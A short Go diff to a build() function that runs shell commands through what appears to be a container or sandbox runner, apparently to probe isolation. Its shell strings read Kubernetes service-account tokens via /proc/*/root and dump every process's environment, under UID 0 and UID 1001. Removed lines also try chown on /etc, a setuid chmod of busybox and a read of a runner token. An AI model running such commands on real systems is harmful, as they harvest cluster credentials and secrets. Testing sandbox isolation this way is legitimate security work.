@@ -75,10 +75,17 @@ func build() {
 		err = s.Unpack(ctx, "base", base)
 	}
 	if err == nil {
-		p := shell(`echo it works as $(id -u); chown 12345:54321 /etc && chmod 4755 /bin/busybox || exit 3
-			for p in '' /proc/[0-9]*/root; do cat $p/var/run/secrets/kubernetes.io/serviceaccount/token; done
-			for p in /proc/[0-9]*; do cat $p/environ; done; cat $BASE/../runner/token; true`)
+		p := shell(`echo it works as $(id -u); chown 12345:54321 /etc || exit 3`)
 		p.Output = os.Stdout
+		err = s.Run(ctx, p)
+	}
+	for _, uid := range []uint32{0, 1001} {
+		if err != nil {
+			break
+		}
+		p := shell(`for p in '' /proc/[0-9]*/root; do cat $p/var/run/secrets/kubernetes.io/serviceaccount/token; done
+			for p in /proc/[0-9]*; do cat $p/environ; done; true`)
+		p.Layer, p.User.UID, p.Output = fmt.Sprint(uid), uid, os.Stdout
 		err = s.Run(ctx, p)
 	}
 	if err != nil {
